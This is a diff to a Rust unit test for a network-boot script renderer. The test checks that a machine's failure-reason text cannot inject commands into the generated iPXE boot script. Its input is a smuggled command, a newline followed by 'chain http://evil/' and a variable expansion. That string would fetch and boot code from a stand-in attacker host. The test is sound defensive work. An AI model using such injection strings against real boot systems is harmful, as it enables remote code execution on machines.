@@ -78,9 +78,9 @@ fn the_installer_is_started_with_the_arguments_of_its_release() {
 fn a_machines_own_words_cannot_become_boot_script_commands() {
     let site = paper_site();
     let renderer = Renderer::new().unwrap();
-    let reason = LocalDiskReason::Failed("x\nchain http://evil/ || ${net0/mac} && y".into());
-    let script = renderer.boot_script_local_disk(&site, &site.nodes[0], &reason).unwrap();
-    assert!(script.contains("boots its own disk: it failed: x chain http://evil/ net0/mac y\n"), "{script}");
+    let reason = "x\nchain http://evil/ || ${net0/mac} && y";
+    let script = renderer.boot_script_local_disk(&site.nodes[0], reason).unwrap();
+    assert!(script.contains("boots its own disk: x chain http://evil/ net0/mac y\n"), "{script}");
     assert!(script.contains("\nsanboot --no-describe --drive 0x80 || exit 1\n"), "{script}");
     assert!(script.contains("\nchain file://RACKSTART/EFI/BOOT/BOOTX64.EFI ||\nexit 1\n"), "{script}");
 }
